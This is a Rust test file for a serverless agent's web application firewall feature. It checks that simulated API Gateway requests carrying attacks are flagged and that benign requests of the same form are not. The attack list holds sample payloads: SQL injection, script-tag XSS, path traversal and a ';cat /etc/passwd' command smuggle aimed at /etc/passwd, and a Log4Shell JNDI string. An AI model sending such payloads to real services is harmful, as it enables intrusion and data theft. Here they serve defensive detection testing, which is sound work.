//! App & API Protection: requests as AWS sends them, evaluated by the real library in the real worker.

use bottlecap::features::APPSEC;
use matrix::{
    build::waf,
    sandbox::{Extension, Function, Setup, function::HandlerOutcome, intake::Span},
};
use serde_json::{Value, json};

use crate::{
    invocation_spans::JAVA,
    support::{Run, agent, end, setup_with},
};

/// What every test of these turns on.
const ENABLED: [(&str, &str); 2] = [("DD_SERVERLESS_APPSEC_ENABLED", "true"), ("DD_APPSEC_WAF_TIMEOUT", "1000000")];

/// The agent with the worker, its library and its rules beside it; None, with a line that says so, where this build has no WAF.
fn protected() -> Option<Extension> {
    if !APPSEC {
        eprintln!("not tested: App & API Protection: this build does not have the component appsec");
        return None;
    }
    let layer_files = waf::layer_files(waf::folder().unwrap());
    Some(Extension { layer_files, ..agent() })
}

/// A function whose tracer reports this request and this response, whatever the event is.
fn serving(requests: Vec<Value>, response: &'static str) -> Function {
    Function::from_fn(move |call| {
        let number: usize = std::str::from_utf8(call.event).unwrap().parse().unwrap();
        JAVA.play_event(call, requests[number].to_string().as_bytes(), &[], response);
        HandlerOutcome::Response(b"null".to_vec())
    })
}

fn http_api(fields: &Value) -> Value {
    let mut event = json!({
        "version": "2.0", "routeKey": "POST /items", "rawPath": "/items", "rawQueryString": "",
        "headers": {"user-agent": "curl/8", "content-type": "application/json"},
        "requestContext": {"domainName": "api.example.com", "stage": "$default",
            "http": {"method": "POST", "path": "/items", "sourceIp": "203.0.113.7"}}
    });
    for (name, value) in fields.as_object().unwrap() {
        event[name] = value.clone();
    }
    event
}

/// Requests with an attack, the address where it is, and the kind of rule that finds it.
fn attacks() -> Vec<(Value, &'static str, &'static str)> {
    let body = |body: &str| http_api(&json!({"body": body}));
    let typed = |content_type: &str, body: &str| {
        http_api(&json!({"body": body, "headers": {"user-agent": "curl/8", "content-type": content_type}}))
    };
    let agent = |agent: &str| http_api(&json!({"headers": {"user-agent": agent}}));
    let query = |value: &str| http_api(&json!({"queryStringParameters": {"q": value}}));
    vec![
        (agent("Arachni/v1.5"), "server.request.headers.no_cookies", "attack_tool"),
        (query("1' OR '1'='1"), "server.request.query", "sql_injection"),
        (query("<script>alert(1)</script>"), "server.request.query", "xss"),
        (query("../../../../etc/passwd"), "server.request.query", "lfi"),
        (query(";cat /etc/passwd"), "server.request.query", "lfi"),
        (agent("${jndi:ldap://x.example/a}"), "server.request.headers.no_cookies", "java_code_injection"),
        (body(r#"{"a": {"b": ["1' OR '1'='1"]}}"#), "server.request.body", "sql_injection"),
        (
            typed("application/x-www-form-urlencoded", "a=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            "server.request.body",
            "xss",
        ),
        (
            typed(
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' OR '1'='1\r\n--b--",
            ),
            "server.request.body",
            "sql_injection",
        ),
    ]
}

/// Requests of the same forms without one.
fn benign() -> Vec<Value> {
    vec![
        http_api(&json!({})),
        http_api(&json!({"queryStringParameters": {"q": "one or two"}})),
        http_api(&json!({"body": r#"{"a": {"b": ["text"]}}"#})),
        http_api(&json!({"body": "{", "cookies": ["a=1"]})),
        http_api(&json!({"body": "--b", "headers": {"content-type": "multipart/form-data; boundary=b"}})),
    ]
}

/// Sends an event for each request, and ends the sandbox. Gives the spans of the invocations in the order of the events.
fn run_sandbox(
    extension: Extension,
    requests: &[Value],
    response: &'static str,
    variables: &[(&str, &str)],
) -> (Run, Vec<Span>) {
    let setup = setup_with(serving(requests.to_vec(), response), &[&ENABLED[..], variables].concat());
    let sandbox = matrix::sandbox::Sandbox::start(Setup { extensions: vec![extension], ..setup }).unwrap();
    let invocations = crate::support::invoke(&sandbox, 0..requests.len());
    let run = end(sandbox, invocations);
    let mut spans: Vec<Span> = run.intake.spans().into_iter().filter(|span| span.name == "aws.lambda").collect();
    spans.sort_by_key(|span| span.trace_id);
    assert_eq!(spans.len(), requests.len(), "{}", run.own_lines());
    (run, spans)
}

fn triggers(span: &Span) -> Value {
    span.meta.get("_dd.appsec.json").map_or(Value::Null, |text| serde_json::from_str(text).unwrap())
}

#[test]
fn attacks_are_found_and_requests_of_the_same_form_are_not() {
    let Some(extension) = protected() else { return };
    let (attacks, benign) = (attacks(), benign());
    let requests: Vec<Value> =
        attacks.iter().map(|(request, ..)| request.clone()).chain(benign.iter().cloned()).collect();
    let (run, spans) = run_sandbox(extension, &requests, r#"{"statusCode":200,"body":"{\"id\":7}"}"#, &[]);
    run.assert_unharmed();
    for ((request, address, kind), span) in attacks.iter().zip(&spans) {
        let found = triggers(span);
        let events = found["triggers"].as_array().unwrap_or_else(|| panic!("{request}: {:?}", span.meta));
        let is_it = |event: &Value| {
            event["rule"]["tags"]["type"] == **kind && event["rule_matches"][0]["parameters"][0]["address"] == **address
        };
        assert!(events.iter().any(is_it), "{request}: {found}");
        assert_eq!(span.metrics.get("_sampling_priority_v1"), Some(&2.0));
        assert_eq!(span.meta.get("appsec.event").map(String::as_str), Some("true"));
        assert_eq!(span.meta.get("network.client.ip").map(String::as_str), Some("203.0.113.7"));
    }
    for (request, span) in benign.iter().zip(&spans[attacks.len()..]) {
        assert_eq!(triggers(span), Value::Null, "{request}");
        assert!(!span.meta.contains_key("appsec.event"), "{request}");
    }
    for span in &spans {
        assert_eq!(span.metrics.get("_dd.appsec.enabled"), Some(&1.0), "{:?}", span.metrics);
        assert_eq!(span.metrics.get("_dd.appsec.waf.timeouts"), Some(&0.0));
        assert_eq!(span.meta.get("_dd.appsec.waf.version").map(String::as_str), Some("2.1.0"));
        assert_eq!(span.meta.get("_dd.appsec.event_rules.version").map(String::as_str), Some("1.18.2"));
    }
    let schemas: Vec<_> = spans.iter().filter(|span| span.meta.contains_key("_dd.appsec.s.res.body")).collect();
    assert_eq!(schemas.len(), 1, "one for each route in a while");
    assert_eq!(schemas[0].meta["_dd.appsec.s.res.body"], r#"[{"id":[4]}]"#);
    let inferred: Vec<Span> = run.intake.spans().into_iter().filter(|span| span.name == "aws.httpapi").collect();
    assert!(inferred.iter().all(|span| span.metrics.contains_key("_dd.appsec.enabled")));
    assert_eq!(inferred.iter().filter(|span| span.meta.contains_key("_dd.appsec.json")).count(), attacks.len());
}

#[test]
fn appsec_enabled_is_set_for_invocations_without_http_event() {
    let Some(extension) = protected() else { return };
    let arn = "arn:aws:sqs:us-east-1:123456789012:queue";
    let message = json!({"Records": [{"eventSource": "aws:sqs", "eventSourceARN": arn, "body": "1' OR '1'='1"}]});
    let (run, lambdas) = run_sandbox(extension, &[message], "null", &[]);
    run.assert_unharmed();
    let queues: Vec<Span> = run.intake.spans().into_iter().filter(|span| span.name == "aws.sqs").collect();
    assert_eq!(queues.len(), 1);
    for span in lambdas.iter().chain(&queues) {
        assert_eq!(span.metrics.get("_dd.appsec.enabled"), Some(&1.0), "{}", span.name);
        assert!(!span.meta.contains_key("_dd.appsec.waf.version"), "{}: it is not evaluated", span.name);
    }
}

#[test]
fn unusable_waf_rules_lose_only_the_findings() {
    let Some(extension) = protected() else { return };
    let requests = [attacks().remove(0).0];
    let (run, spans) = run_sandbox(extension, &requests, "null", &[("DD_APPSEC_RULES", "/nonexistent/rules.json")]);
    run.assert_unharmed();
    assert_eq!(triggers(&spans[0]), Value::Null);
    let lines = run.own_lines();
    assert_eq!(lines.matches("requests are not evaluated for attacks").count(), 1, "{lines}");
}

#[test]
fn function_works_without_the_waf_worker() {
    if protected().is_none() {
        return;
    }
    let requests = [attacks().remove(0).0];
    let (run, spans) = run_sandbox(agent(), &requests, "null", &[]);
    run.assert_unharmed();
    assert_eq!(triggers(&spans[0]), Value::Null);
    let lines = run.own_lines();
    assert_eq!(lines.matches("requests are not evaluated for attacks").count(), 1, "{lines}");
}

#[test]
fn a_setting_without_the_component_warns() {
    if APPSEC {
        return;
    }
    let (run, spans) = run_sandbox(agent(), &[attacks().remove(0).0], "null", &[]);
    run.assert_unharmed();
    assert!(!spans[0].metrics.contains_key("_dd.appsec.enabled"));
    assert!(run.own_lines().contains("this build has no WAF"), "{}", run.own_lines());
}
